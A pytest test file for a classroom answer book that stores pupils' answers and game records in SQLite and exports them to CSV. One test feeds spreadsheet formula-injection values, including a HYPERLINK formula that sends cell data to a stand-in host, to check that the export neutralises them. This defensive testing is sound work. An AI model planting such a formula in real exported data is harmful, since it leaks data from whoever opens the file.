"""The class's book (widgets/classroom/classbook.py): answers and games kept in SQLite, nothing lost or
kept twice, nothing kept outside class mode."""

from __future__ import annotations

import csv
import multiprocessing
import shutil
import sqlite3
import threading
import time

import pytest

from mandalakit.widgets.classroom import classbook
from mandalakit.widgets.classroom.classbook import ClassBook


def test_attempts_are_kept_in_order_once_per_key(tmp_path):
    book = ClassBook(tmp_path)
    assert book.attempt("Ada", "ohanami", "sakura-6", "20", False, key="k1", at=1.0)
    assert book.attempt("Ada", "ohanami", "sakura-6", " 21 ", True, key="k2", at=2.0)
    assert not book.attempt("Ada", "ohanami", "sakura-6", "21", True, key="k2", at=3.0)  # a retry
    assert book.attempt("Bo", "mandala", "river", "7", True, key="k3", at=2.5)
    assert [(a.pupil, a.exercise, a.answer, a.right, a.at) for a in book.attempts()] == [
        ("Ada", "sakura-6", "20", False, 1.0), ("Ada", "sakura-6", "21", True, 2.0), ("Bo", "river", "7", True, 2.5)]
    # A second book on the same folder (another pupil's kernel, the server restarted) reads the same
    assert ClassBook(tmp_path).attempts() == book.attempts()


def test_the_file_is_in_wal_mode_inside_the_class_folder(tmp_path):
    ClassBook(tmp_path / "class").attempt("Ada", "ohanami", "e1", "1", True)
    with sqlite3.connect(tmp_path / "class" / classbook.FILE) as db:
        assert db.execute("PRAGMA journal_mode").fetchone() == ("wal",)
    assert {p.name for p in tmp_path.iterdir()} == {"class"}  # nothing written beside it


@pytest.mark.parametrize(("pupil", "problem"), [("", "is empty"), ("   ", "is empty"), (None, "must be text"),
                                                (12, "must be text")])
def test_a_name_that_is_no_text_is_refused_in_a_sentence(tmp_path, pupil, problem):
    with pytest.raises(ValueError, match=f"^A pupil's name {problem}"):
        ClassBook(tmp_path).attempt(pupil, "ohanami", "e1", "1", True)


def test_long_names_and_answers_are_cut_and_kept_on_one_line(tmp_path):
    book = ClassBook(tmp_path)
    book.attempt("A" * 10_000 + "\nB", "ohanami", "e1", "9" * 1_000_000, False)
    (a,) = book.attempts()
    assert a.pupil == "A" * classbook.NAME_MAX and len(a.answer) == classbook.ANSWER_MAX


def test_games_are_kept_with_their_record_once_per_key(tmp_path):
    book = ClassBook(tmp_path)
    record = {"format": "mandalakit-record", "game": "mandala", "events": []}
    assert book.game("Ada", record, True, key="g1") and not book.game("Ada", record, True, key="g1")
    (g,) = book.games()
    assert (g.pupil, g.game, g.won, g.record) == ("Ada", "mandala", True, record)
    with pytest.raises(ValueError, match="at most 1 MB"):
        book.game("Ada", {"game": "mandala", "events": ["x" * classbook.RECORD_MAX]}, False)


def test_export_is_a_csv_a_spreadsheet_reads(tmp_path):
    book = ClassBook(tmp_path)
    book.attempt("Zoé, 5e B", "fr/ohanami", "e1", "21", True, at=0.0, attempt=2)
    exported = book.export_csv(tmp_path / "out.csv")
    assert exported.read_bytes().startswith(b"\xef\xbb\xbfpupil,")  # the byte order mark a spreadsheet reads UTF-8 by
    rows = list(csv.reader(exported.open(encoding="utf-8-sig")))
    assert rows == [["pupil", "lesson", "exercise", "attempt", "answer", "right", "time"],
                    ["Zoé, 5e B", "fr/ohanami", "e1", "2", "21", "yes", "1970-01-01T00:00:00Z"]]


@pytest.mark.parametrize("typed", ['=HYPERLINK("http://x.example/?"&A1,"Hi")', "+1+1", "-2+3", "@SUM(A1)",
                                   "\t=1+1", "\r=1+1"])
def test_no_cell_of_the_export_runs_as_a_formula(tmp_path, typed):
    book = ClassBook(tmp_path)
    book.attempt(typed, "ohanami", "1", typed, False, at=0.0)
    # the book keeps names and answers on one line: a leading tab or CR is gone, the rest quoted
    row = list(csv.reader(book.export_csv(tmp_path / "out.csv").open(encoding="utf-8-sig")))[1]
    for cell in (row[0], row[4]):
        assert cell[0] == "'" and cell[1:] == typed.strip(), row
    assert classbook.as_text("\t=1") == "'\t=1" and classbook.as_text("\r=1") == "'\r=1"
    assert classbook.as_text("21") == "21" and classbook.as_text("Zoé") == "Zoé"


@pytest.mark.parametrize("mark", ["\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068",
                                  "\u2069", "\u200e", "\u200f", "\u200b", "\x00", "\x07", "\x1b", "\x7f", "\x9b", "\ufeff"])
def test_names_lose_control_characters_and_direction_overrides(tmp_path, mark):
    book = ClassBook(tmp_path)
    book.attempt(f"Ada{mark}nnA{mark} Lo", "ohanami", "1", f"2{mark}1", True)
    (kept,) = book.attempts()
    assert (kept.pupil, kept.answer) == ("AdannA Lo", "21")


def test_clear_forgets_the_class(tmp_path):
    book = ClassBook(tmp_path)
    book.attempt("Ada", "ohanami", "e1", "1", True)
    book.game("Ada", {"game": "ohanami"}, False)
    book.clear()
    assert book.attempts() == [] and book.games() == []


def test_no_class_mode_keeps_nothing(monkeypatch):
    monkeypatch.delenv(classbook.ENV, raising=False)
    assert classbook.current() is None


def _write_many(folder: str, pupil: str, n: int) -> None:
    book = ClassBook(folder)
    for i in range(n):
        book.attempt(pupil, "ohanami", f"e{i % 6}", str(i), i % 2 == 0, key=f"{pupil}-{i}")


def test_pupils_writing_at_once_lose_nothing_and_keep_their_order(tmp_path):
    ctx = multiprocessing.get_context("spawn")
    workers = [ctx.Process(target=_write_many, args=(str(tmp_path), f"pupil{p}", 60)) for p in range(6)]
    try:
        for w in workers:
            w.start()
        for w in workers:
            w.join(timeout=120)
            assert w.exitcode == 0
    finally:
        for w in workers:
            if w.is_alive():
                w.kill()
                w.join()
    kept = ClassBook(tmp_path).attempts()
    assert len(kept) == 6 * 60
    for p in range(6):
        assert [a.answer for a in kept if a.pupil == f"pupil{p}"] == [str(i) for i in range(60)]


def test_one_book_per_process_and_a_deleted_class_folder_starts_an_empty_book(tmp_path, monkeypatch):
    monkeypatch.setenv(classbook.ENV, str(tmp_path / "class"))
    book = classbook.current()
    assert classbook.current() is book  # one connection kept, not a new file check per answer
    book.attempt("Ada", "ohanami", "1", "20", False)
    shutil.rmtree(tmp_path / "class")  # the teacher forgets the class while the server runs
    classbook.current().attempt("Bo", "ohanami", "1", "21", True)
    assert [a.pupil for a in ClassBook(tmp_path / "class").attempts()] == ["Bo"]


def test_clear_leaves_no_name_in_the_files(tmp_path):
    book = ClassBook(tmp_path)
    for i in range(200):
        book.attempt("Quentinette", "ohanami", "1", f"answer{i}", False)
    book.game("Quentinette", {"game": "ohanami", "events": []}, True)
    book.clear()
    for path in tmp_path.glob(classbook.FILE + "*"):  # the file, its write-ahead log and index
        assert b"Quentinette" not in path.read_bytes(), path.name
    book.attempt("Bo", "ohanami", "1", "21", True)
    assert [a.pupil for a in book.attempts()] == ["Bo"]


def test_clear_waits_for_a_pupil_writing_meanwhile(tmp_path):
    book = ClassBook(tmp_path)
    book.attempt("Ada", "ohanami", "1", "20", False)
    pupil = sqlite3.connect(tmp_path / classbook.FILE, isolation_level=None)
    pupil.execute("BEGIN IMMEDIATE")  # a pupil's kernel in the middle of a write
    pupil.execute("INSERT INTO attempts (key, pupil, lesson, exercise, answer, right, at) VALUES ('k', 'Bo', 'ohanami', '1', '21', 1, 0)")
    clearing = threading.Thread(target=book.clear)
    clearing.start()
    time.sleep(0.2)  # not a readiness wait: the outcome is the same whether clear waited or not
    pupil.execute("COMMIT")
    pupil.close()
    clearing.join(timeout=60)
    assert not clearing.is_alive() and book.attempts() == []
